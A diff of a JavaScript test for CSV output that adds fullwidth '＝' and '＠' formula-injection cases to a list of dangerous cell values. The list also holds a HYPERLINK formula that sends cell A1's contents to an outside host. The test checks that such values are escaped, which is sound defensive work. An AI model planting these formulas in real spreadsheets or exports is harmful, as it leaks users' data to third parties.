@@ -19,6 +19,8 @@ describe('A line of CSV', () => {
       '\r=1',
       '\n=1',
       '\0=1',
+      '＝1+2',
+      '＠SUM(A1)',
       '=HYPERLINK("http://x.io?"&A1,"a,b")',
     ];
     expect(readCsv(csvLine(dangers))).toEqual([dangers.map((danger) => `'${danger}`)]);
